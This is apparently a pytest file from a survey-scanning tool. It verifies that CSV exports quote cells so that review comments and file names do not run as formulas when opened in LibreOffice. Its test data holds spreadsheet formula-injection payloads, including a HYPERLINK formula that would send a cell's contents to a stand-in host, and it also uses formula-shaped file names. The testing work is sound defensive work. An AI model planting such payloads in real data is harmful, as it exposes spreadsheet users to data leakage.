"""Nothing in a CSV that people open runs as a formula in their spreadsheet (issue 8).

A scanned survey gets comments typed in review and input files whose names are formulas;
its CSVs (scan outputs and export) are opened in LibreOffice, converted to xlsx in one
headless start, and every cell is read back. The exact text stays in the store, the
Parquet file and the Excel files.
"""

from __future__ import annotations

import shutil
import subprocess
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
from review_survey import cached_survey, copy_survey

from scanner.dataset import open_dataset
from scanner.export import export
from scanner.outputs import final_items
from scanner.pipeline import scan
from scanner.review import queue as q
from scanner.spreadsheet import spreadsheet_safe, spreadsheet_safe_frame

HOSTILE_COMMENTS = {
    "q01_comment": '=HYPERLINK("http://x.example/?"&A1,"y")',
    "q02_comment": "\t=2*3",
    "q03_comment": "+1+2",
    "q04_comment": "-2+3",
    "q05_comment": "@SUM(1,2)",
    "q06_comment": "  =2*3",
    "q07_comment": "- more joint training",
    "q08_comment": "-1",
}
"""Typed in review on sheet 1: what Excel or LibreOffice would run, and a plain number."""
SHOWN = {
    "q01_comment": '\'=HYPERLINK("http://x.example/?"&A1,"y")',
    "q02_comment": "'\t=2*3",
    "q03_comment": "'+1+2",
    "q04_comment": "'-2+3",
    "q05_comment": "'@SUM(1,2)",
    "q06_comment": "'  =2*3",
    "q07_comment": "'- more joint training",
    "q08_comment": -1,
}
"""What the spreadsheet shows for each: text behind a quote, and the number as a number."""
FORMULA_IMAGE = "=1+2.png"
FORMULA_BROKEN = '=HYPERLINK("x.example?"&A1,"y").pdf'
"""Input files named as formulas: a page of the form, and a file that is not a PDF."""


@pytest.mark.parametrize(("text", "cell"), [
    ("=1+2", "'=1+2"), ("+1", "+1"), ("+1+2", "'+1+2"), ("-1", "-1"), ("-2.5", "-2.5"), ("-2+3", "'-2+3"),
    ("@SUM(A1)", "'@SUM(A1)"), ("\tx", "'\tx"), ("\rx", "'\rx"), (" =1", "' =1"), ("\n-x", "'\n-x"),
    ("More staff = better", "More staff = better"), ("", ""), ("1-2", "1-2"), ("'=1", "'=1"),
])
def test_text_a_spreadsheet_would_run_gets_a_quote(text, cell):
    assert spreadsheet_safe(text) == cell


def test_a_frame_quotes_each_cell_as_spreadsheet_safe_does_whatever_its_columns_hold():
    # The frame looks at its columns' first characters before it looks at a cell: a
    # column is passed over only when no cell of it may start a formula.
    cells = ["=1+2", " =1", "\u3000=1", "\u00a0@x", "\tx", "-1", "-2+3", "plain", "", "1-2"]
    df = pd.DataFrame({
        **{f"only_{k}": ["a", cell, None] for k, cell in enumerate(cells)},
        "mixed": pd.Series(["x", 3, "=1"], dtype=object),
        "numbers": [-1.5, 2.0, None],
        "strings": pd.Series(["ok", "+1+2", None], dtype="string"),
    })
    out = spreadsheet_safe_frame(df)
    for name in df.columns:
        expected = [spreadsheet_safe(v) if isinstance(v, str) else v for v in df[name]]
        got = list(out[name])
        assert [g for g in got if isinstance(g, str)] == [e for e in expected if isinstance(e, str)], name
    assert list(out["only_2"])[1] == "'\u3000=1" and list(out["numbers"])[0] == -1.5


@pytest.mark.parametrize(("typed", "stored"), [
    ("\t=2*3", "\t=2*3"), ("  indented", "  indented"), ("\n \nText\nmore  \n\n", "Text\nmore"),
    ("line one\r\n  line two\r\n", "line one\r\n  line two"), (" \n\t ", ""),
])
def test_typed_comment_kept_as_typed_less_blank_lines_and_trailing_space(typed, stored):
    assert q.typed_text(typed) == stored


def open_in_libreoffice(csvs: list[Path], folder: Path) -> dict[str, openpyxl.Workbook]:
    """Each CSV as LibreOffice Calc reads it (UTF-8, comma separated), via one headless start."""
    folder.mkdir()
    # A private profile: parallel runs do not share (and lock) the user's.
    subprocess.run(["soffice", f"-env:UserInstallation={(folder / 'profile').as_uri()}", "--headless",
                    "--infilter=CSV:44,34,76,1", "--convert-to", "xlsx", "--outdir", str(folder),
                    *map(str, csvs)], check=True, capture_output=True, timeout=180)
    return {p.name: openpyxl.load_workbook(folder / f"{p.stem}.xlsx") for p in csvs}


def cells(book: openpyxl.Workbook) -> list:
    return [c for row in book.active.iter_rows() for c in row]


def column(book: openpyxl.Workbook, name: str) -> list:
    """The cells of the column headed `name`, below the header."""
    ws = book.active
    k = [c.value for c in ws[1]].index(name) + 1
    return [c for (c,) in ws.iter_rows(min_row=2, min_col=k, max_col=k)]


@pytest.fixture
def hostile_survey(template, filled, tmp_path_factory, tmp_path, monkeypatch):
    """The review survey with the hostile comments typed in and the hostile files scanned."""
    out = copy_survey(cached_survey(template, tmp_path_factory.getbasetemp()), tmp_path / "out")
    with q.open_survey(out, template) as store:
        sheet = store.db.execute("SELECT sheet_id FROM sheets ORDER BY seq").fetchone()[0]
        for item, text in HOSTILE_COMMENTS.items():
            q.record_decision(store, q.Fields(template), sheet, item, text, "Reviewer", None)
    inputs = tmp_path / "inputs"
    inputs.mkdir()
    shutil.copy(filled.png, inputs / FORMULA_IMAGE)
    (inputs / FORMULA_BROKEN).write_bytes(b"%PDF-1.4 cut short")
    monkeypatch.chdir(inputs)  # the names as given are the sources in the CSVs
    scan([FORMULA_IMAGE, FORMULA_BROKEN], template, out, jobs=1, ocr=False)
    return out, sheet


@pytest.mark.skipif(shutil.which("soffice") is None,
                    reason="LibreOffice is not installed (`make test` installs libreoffice-calc-nogui)")
def test_csvs_open_in_libreoffice_without_a_formula(template, hostile_survey, tmp_path):
    out, sheet = hostile_survey
    exported = export(open_dataset(out, template), tmp_path / "export", ["csv", "xlsx", "parquet"])
    csvs = [out / "responses.csv", out / "items.csv", out / "pages.csv"]
    csvs += [f for f in exported.files if f.suffix == ".csv"]
    assert {f.name for f in csvs} == {"responses.csv", "items.csv", "pages.csv", "data.csv", "comments.csv",
                                      "codebook.csv"}
    books = open_in_libreoffice(csvs, tmp_path / "calc")

    formulas = {name: [c.coordinate for c in cells(book) if c.data_type == "f"] for name, book in books.items()}
    assert formulas == {name: [] for name in books}
    shown = {name: [c.value for c in cells(book)] for name, book in books.items()}
    for name in ("responses.csv", "items.csv", "data.csv", "comments.csv"):
        for item, value in SHOWN.items():
            assert value in shown[name], (name, item)
    for name in ("responses.csv", "items.csv", "data.csv"):
        assert "'" + FORMULA_IMAGE in shown[name]
    assert {"'" + FORMULA_IMAGE, "'" + FORMULA_BROKEN} <= set(shown["pages.csv"])
    # Numbers stay numbers: the first page of each sheet, and data.csv's codes.
    assert {c.data_type for c in column(books["responses.csv"], "first_page")} == {"n"}
    assert "n" in {c.data_type for c in column(books["data.csv"], "q03")}

    # The exact text stays in the store, the Parquet file and the Excel files (as text).
    with q.open_survey(out, template) as store:
        final = final_items(store).set_index(["sheet_id", "item"])["value"]
    parquet = pd.read_parquet(tmp_path / "export" / "data.parquet").set_index("sheet_id")
    data_xlsx = pd.read_excel(tmp_path / "export" / "data.xlsx", sheet_name="data", dtype=str).set_index("sheet_id")
    for item, text in HOSTILE_COMMENTS.items():
        assert final[(sheet, item)] == text
        assert parquet.loc[sheet, item] == text
        assert data_xlsx.loc[sheet, item] == text
    for name in ("data.xlsx", "comments.xlsx"):
        book = openpyxl.load_workbook(tmp_path / "export" / name)
        assert not [c for ws in book for row in ws.iter_rows() for c in row if c.data_type == "f"], name

